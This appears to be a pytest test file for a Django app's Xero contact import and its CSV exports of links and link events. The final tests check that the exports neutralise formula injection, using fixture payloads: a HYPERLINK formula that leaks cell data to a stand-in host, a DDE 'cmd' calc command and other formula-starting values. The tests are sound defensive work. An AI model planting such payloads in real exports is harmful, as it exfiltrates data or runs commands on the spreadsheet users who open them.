"""The import from Django admin, and the CSV exports of links and link events."""

import csv
import io
import uuid

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from contacts.models import Contact
from sync.csv_export import FORMULA_STARTS
from sync.links.services import contact_link
from sync.models import ContactImport, ContactLink, LinkEvent, LinkMethod
from tests.factories import (
    ContactFactory,
    ContactLinkFactory,
    LinkEventFactory,
    UserFactory,
    XeroConnectionFactory,
    XeroContactFactory,
)
from tests.xero_export import BAYVIEW, xero_csv

pytestmark = pytest.mark.django_db


def test_an_admin_imports_through_the_same_preview_and_link_on_import(admin_client):
    connection = XeroConnectionFactory()
    XeroContactFactory(connection=connection, name="Bayview Cafe Ltd")
    changelist = admin_client.get(reverse("admin:contacts_contact_changelist")).content.decode()
    assert reverse("admin:contacts_contact_import_xero") in changelist
    response = admin_client.post(
        reverse("admin:contacts_contact_import_xero"),
        {"file": SimpleUploadedFile("bayview.csv", xero_csv([BAYVIEW])), "role": "customers"},
    )
    preview_url = response.url
    page = admin_client.get(preview_url).content.decode()
    assert "Links to <bdi>Bayview Cafe Ltd</bdi>" in page and not Contact.objects.exists()
    response = admin_client.post(preview_url)
    done = ContactImport.objects.get()
    assert response.url == reverse("sync:import_result", kwargs={"pk": done.pk})
    assert ContactLink.objects.get().method == "import"


def test_admin_import_refuses_a_bad_file_on_its_form(admin_client):
    page = admin_client.post(
        reverse("admin:contacts_contact_import_xero"),
        {"file": SimpleUploadedFile("x.csv", b"Name,Email\nTui,t@t.nz\n"), "role": "customers"},
    ).content.decode()
    assert "The file has no ContactName column" in page
    assert not ContactImport.objects.exists()


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_staff_export_the_links_with_who_and_how(admin_client, admin_user):
    link = ContactLinkFactory(
        contact__name="Tui Books", xero_name="Tui Books Ltd", created_by=admin_user
    )
    header, row = rows_of(admin_client.get(reverse("sync:export_links")))
    assert header[:3] == ["Omni contact", "Omni account number", "Xero contact"]
    assert row[0] == "Tui Books" and row[2] == "Tui Books Ltd"
    assert row[3] == str(link.xero_contact_id)
    assert row[5:9] == ["Valid", "", "Existing Xero contact", "ada"]


def test_staff_export_the_link_events(admin_client, accountant):
    LinkEventFactory(contact__name="Tui Books", actor=accountant, detail="Imported: Tui")
    header, row = rows_of(admin_client.get(reverse("sync:export_link_events")))
    assert header[1:5] == ["Action", "Omni contact", "Organisation", "Who"]
    assert row[1:3] == ["Linked", "Tui Books"] and row[4] == "alex" and row[7] == "Imported: Tui"


def test_the_admin_actions_export_the_selected_rows(admin_client):
    first, _second = ContactLinkFactory(), ContactLinkFactory()
    response = admin_client.post(
        reverse("admin:sync_contactlink_changelist"),
        {"action": "export_csv", "_selected_action": [first.pk]},
    )
    assert [row[0] for row in rows_of(response)[1:]] == [first.contact.name]
    event = LinkEventFactory()
    response = admin_client.post(
        reverse("admin:sync_linkevent_changelist"),
        {"action": "export_csv", "_selected_action": [event.pk]},
    )
    assert len(rows_of(response)) == 2


def test_accountants_may_not_export(accountant_client):
    response = accountant_client.get(reverse("sync:export_links"))
    assert response.status_code == 302 and "/admin/login/" in response.url
    assert accountant_client.get(reverse("sync:export_link_events")).status_code == 302


# A spreadsheet runs each of these as a formula (or a command) unless it is neutralised.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'


def test_the_links_export_opens_hostile_names_as_text_not_formulas(admin_client):
    bad_user = UserFactory(username="@SUM(1+1)")
    connection = XeroConnectionFactory(organisation_name="+cmd|' /C calc'!A0")
    contact = ContactFactory(name=HYPERLINK, account_number="-2+3")
    link = contact_link(
        contact=contact,
        connection=connection,
        xero_contact_id=uuid.uuid4(),
        xero_name="\t=1+1",
        method=LinkMethod.EXISTING,
        user=bad_user,
    )

    header, row = rows_of(admin_client.get(reverse("sync:export_links")))

    by_column = dict(zip(header, row, strict=True))
    assert by_column["Omni contact"] == "'" + HYPERLINK
    assert by_column["Omni account number"] == "'-2+3"
    assert by_column["Xero contact"] == "'\t=1+1"
    assert by_column["Organisation"] == "'+cmd|' /C calc'!A0"
    assert by_column["Linked by (who)"] == "'@SUM(1+1)"
    # The app's own values are written as they are.
    assert by_column["Xero contact ID"] == str(link.xero_contact_id)
    assert by_column["Linked at"] == timezone.localtime(link.created_at).isoformat("T", "seconds")


def test_the_link_events_export_opens_hostile_names_and_details_as_text(admin_client):
    contact = ContactFactory(name="-1+1")
    contact_link(
        contact=contact,
        connection=XeroConnectionFactory(organisation_name="@Demo"),
        xero_contact_id=uuid.uuid4(),
        xero_name="Tui",
        method=LinkMethod.EXISTING,
        user=None,
    )
    LinkEventFactory(contact=contact, action=LinkEvent.Action.RENAME, detail="\r=cmd")

    header, *rows = rows_of(admin_client.get(reverse("sync:export_link_events")))

    renamed, linked = (dict(zip(header, row, strict=True)) for row in rows)
    assert linked["Omni contact"] == "'-1+1" and linked["Organisation"] == "'@Demo"
    assert linked["Detail"] == "Existing Xero contact: Tui"  # nothing to neutralise
    assert renamed["Detail"] == "'\r=cmd"
    assert linked["At"][:4].isdigit() and linked["Xero ID after"][0] != "'"


def test_the_admin_actions_export_neutralised_cells_too(admin_client):
    link = ContactLinkFactory(contact__name=HYPERLINK)
    response = admin_client.post(
        reverse("admin:sync_contactlink_changelist"),
        {"action": "export_csv", "_selected_action": [link.pk]},
    )
    assert rows_of(response)[1][0] == "'" + HYPERLINK
    event = LinkEventFactory(contact_name=HYPERLINK)
    response = admin_client.post(
        reverse("admin:sync_linkevent_changelist"),
        {"action": "export_csv", "_selected_action": [event.pk]},
    )
    assert rows_of(response)[1][2] == "'" + HYPERLINK


def test_the_import_sample_has_no_cell_a_spreadsheet_would_run(admin_client):
    rows = rows_of(admin_client.get(reverse("sync:import_sample")))
    assert rows and not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
